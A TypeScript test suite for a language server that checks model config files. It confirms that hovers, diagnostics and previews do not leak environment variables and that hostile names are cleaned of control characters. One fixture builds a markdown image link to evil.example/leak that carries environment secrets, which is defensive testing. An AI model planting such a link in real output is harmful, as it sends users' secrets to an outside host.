import type { DocumentSymbol, MarkupContent } from 'vscode-languageserver/node';
import { afterEach, describe, expect, it } from 'vitest';
import { hostileNames } from '../support/hostile-names.js';
import { activeParts } from '../support/markdown.js';
import { Client } from './client.js';

const unseen = /[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\p{Bidi_Control}]/u;
const shown = (text: string): string => text.replace(/[\n\t]/g, '');

let client: Client;
afterEach(() => client.stop());

async function hoverText(name: string, search: string, behind: number): Promise<string> {
  const found = await client.hover(name, client.position(name, search, behind));
  return found ? (found.contents as MarkupContent).value : '';
}

describe('an environment variable', () => {
  const leak = `import os
models = [dict(type='x', abbr='![a](https://evil.example/leak?k=' + os.environ.get('MY_KEY', '') + '&d=' + os.environ.get('DATASET_SOURCE', '') + ')', meta_template=dict(round=[dict(role='HUMAN')]))]
`;
  const env = { MY_KEY: 'hunter2', DATASET_SOURCE: 'ModelScope' };

  async function everything(): Promise<string> {
    const texts = [
      await hoverText('leak.py', "'HUMAN'", 2),
      await hoverText('leak.py', 'abbr', 1),
      await hoverText('leak.py', 'models', 1),
    ];
    expect(texts.flatMap(activeParts)).toEqual([]);
    const symbols = await client.connection.sendRequest<DocumentSymbol[]>('textDocument/documentSymbol', {
      textDocument: { uri: client.uri('leak.py') },
    });
    return JSON.stringify([texts, await client.diagnostics('leak.py'), symbols, await client.preview('leak.py'), client.logged]);
  }

  it('that no framework documents is told to nobody, and one in a hover to no network', async () => {
    client = await Client.start({ env });
    await client.openText('leak.py', leak);
    const all = await everything();
    expect(all).not.toContain('hunter2');
    expect(all).toContain('are given only the variables that the frameworks document');
  });

  it('is not looked up in an untrusted workspace, until it is trusted', async () => {
    client = await Client.start({ env, initializationOptions: { trusted: false } });
    const text =
      "import os\nsource = os.environ.get('DATASET_SOURCE', 'none')\nmissing = os.environ.get('PREFLIGHT_NOT_SET', 'none')\n" + leak;
    await client.openText('leak.py', text);
    expect(await hoverText('leak.py', 'source', 1)).toContain('this workspace is not trusted');
    expect(await hoverText('leak.py', 'missing', 1)).toContain('this workspace is not trusted');
    expect(await everything()).not.toMatch(/hunter2|ModelScope|is(?: not)? set here/);
    await client.connection.sendNotification('promptPreflight/trust');
    expect(await hoverText('leak.py', 'source', 1)).toContain('ModelScope');
    expect(await hoverText('leak.py', 'missing', 1)).toContain("'none'");
    expect(await everything()).not.toContain('hunter2');
  });
});

describe('texts of a config', () => {
  it('come to the editor without controls, and at no great length', async () => {
    client = await Client.start();
    const literal = (name: string): string => JSON.stringify(name);
    const models = hostileNames.map(
      (name) =>
        `    dict(type='HuggingFaceCausalLM', abbr=${literal(name)}, path='x', **{${literal(name)}: 1}, meta_template=dict(round=[dict(role=${literal(name)}, **{${literal(name)}: 1})])),`,
    );
    await client.openText(
      'hostile.py',
      `models = [\n${models.join('\n')}\n]\ndatasets = [dict(abbr='d', infer_cfg=dict(prompt_template=dict(type='PromptTemplate', template=dict(round=[dict(role='')]))))]\n`,
    );
    const diagnostics = await client.diagnostics('hostile.py');
    expect(diagnostics.length).toBeGreaterThan(hostileNames.length);
    for (const { message: said, relatedInformation = [] } of diagnostics) {
      const message = String(said);
      expect(shown(message)).not.toMatch(unseen);
      expect(message.length).toBeLessThan(2100);
      for (const related of relatedInformation) expect(shown(related.message)).not.toMatch(unseen);
    }
    const titles = (await client.actions('hostile.py', { start: { line: 0, character: 0 }, end: { line: 500, character: 0 } })).map(
      ({ title }) => title,
    );
    const [list] = await client.connection.sendRequest<DocumentSymbol[]>('textDocument/documentSymbol', {
      textDocument: { uri: client.uri('hostile.py') },
    });
    const names = (list?.children ?? []).map(({ name }) => name);
    expect(names.length).toBe(hostileNames.length);
    const at = client.position('hostile.py', "role='')", 6);
    const completions = await client.connection.sendRequest<{ label: string; filterText?: string; textEdit: { newText: string } }[]>(
      'textDocument/completion',
      { textDocument: { uri: client.uri('hostile.py') }, position: at },
    );
    expect(completions.map(({ textEdit }) => textEdit.newText)).toEqual([...new Set(hostileNames)]);
    for (const text of [...titles, ...names, ...completions.map(({ label }) => label)]) {
      expect(text).not.toMatch(unseen);
      expect(text.length).toBeLessThan(400);
    }
  });

  it('of very many findings the worst are sent, with how many there are more', async () => {
    client = await Client.start();
    const lines = Array.from(
      { length: 370 },
      (_, i) =>
        `    dict(type='HuggingFaceCausalLM', abbr='a${i}', path='x', meta_template=dict(rounds=[], begn='', ennd='', round=[dict(role='BOT', generate=True)])),`,
    );
    await client.openText(
      'many.py',
      `models = [\n${lines.join('\n')}\n]\ndatasets = [dict(abbr='d', infer_cfg=dict(prompt_template=dict(type='PromptTemplate', template='{q}', tem=1)))]\nx = undefined_name\n`,
    );
    const diagnostics = await client.diagnostics('many.py');
    expect(diagnostics.length).toBe(1001);
    expect(diagnostics.map(({ code }) => code)).toContain('raises');
    expect(diagnostics.at(-1)).toMatchObject({
      severity: 3,
      message: expect.stringMatching(/^This document has [\d,]+ more findings, which are not shown\.$/) as unknown,
    });
    expect(JSON.stringify(diagnostics).length).toBeLessThan(1_000_000);
  });
});
